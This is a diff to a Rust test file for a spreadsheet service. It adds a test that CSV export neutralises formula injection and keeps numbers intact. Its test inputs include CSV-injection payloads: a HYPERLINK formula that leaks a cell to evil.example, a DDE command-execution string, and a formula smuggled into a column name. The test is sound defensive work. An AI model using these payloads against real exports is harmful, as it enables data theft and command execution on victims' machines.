@@ -184,7 +184,7 @@ async fn csv_round_trips_through_a_csv_reader() {
         ("newline", "line1\nline2"),
         ("crlf", "x\r\ny"),
         ("unicode", "café ☕ 東京 👋"),
-        ("formula", "=1+1"),
+        ("equation", "1+1=2"),
         ("spaces", "  padded  "),
         ("empty", ""),
         ("all", "\",\n\""),
@@ -211,6 +211,68 @@ async fn csv_round_trips_through_a_csv_reader() {
     assert_eq!(records, vec![header, row1.clone(), row2]);
     // The same values as the values API gives.
     assert_eq!(rows(&relay, &id, "Sheet1!A2:I2").await, vec![row1]);
+}
+
+/// CSV injection (OWASP): a value, or a column name, that a spreadsheet program would run
+/// as a formula gets a leading `'` in the CSV; numbers, however they were sent, stay
+/// numbers; XLSX and the values API keep every value exact.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_export_neutralises_formulas_and_keeps_numbers() {
+    let relay = Relay::start("");
+    let id = new_sheet(&relay, "Injected", None).await;
+    let link = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")";
+    let sent = [
+        ("link", json!(link)),
+        ("dde", json!("=cmd|' /C calc'!A0")),
+        ("plus", json!("+1+1")),
+        ("minus", json!("-2+3")),
+        ("at", json!("@SUM(A1:A2)")),
+        ("tab", json!("\t=1+1")),
+        ("cr", json!("\r=1+1")),
+        ("number", json!(-5)),
+        ("float", json!(-3.5)),
+        ("text_number", json!("-5")),
+        ("plain", json!("a=b")),
+        ("=evil()", json!("x")),
+    ];
+    let body: serde_json::Map<String, serde_json::Value> =
+        sent.iter().map(|(k, v)| (k.to_string(), v.clone())).collect();
+    append(&relay, &id, 0, serde_json::Value::Object(body)).await;
+
+    let csv = export(&relay, &id, "format=csv").await;
+    assert_eq!(csv.status, 200, "{:?}", csv.body);
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.bytes.as_slice());
+    let records: Vec<Vec<String>> = reader
+        .records()
+        .map(|rec| rec.expect("valid CSV").iter().map(str::to_string).collect())
+        .collect();
+    let mut header: Vec<&str> = sent.iter().map(|(k, _)| *k).collect();
+    header[11] = "'=evil()";
+    let row = [
+        &format!("'{link}"),
+        "'=cmd|' /C calc'!A0",
+        "'+1+1",
+        "'-2+3",
+        "'@SUM(A1:A2)",
+        "'\t=1+1",
+        "'\r=1+1",
+        "-5",
+        "-3.5",
+        "-5",
+        "a=b",
+        "x",
+    ];
+    assert_eq!(records, [header, row.to_vec()]);
+
+    // XLSX: text stays exact text (never a formula), numbers are numbers.
+    let xlsx = export(&relay, &id, "format=xlsx").await.bytes;
+    let data = sheet_rows(&xlsx, "Sheet1");
+    assert_eq!(data[0][11], s("=evil()"));
+    assert_eq!(data[1][..3], [s(link), s("=cmd|' /C calc'!A0"), s("+1+1")]);
+    assert_eq!(data[1][7..10], [Data::Float(-5.0), Data::Float(-3.5), Data::Float(-5.0)]);
+    assert!(!zip_text(&xlsx, "xl/worksheets/sheet1.xml").contains("<f>"), "no formula cells");
+    // The values API gives what was stored.
+    assert_eq!(rows(&relay, &id, "Sheet1!A2:B2").await, grid(&[&[link, "=cmd|' /C calc'!A0"]]));
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
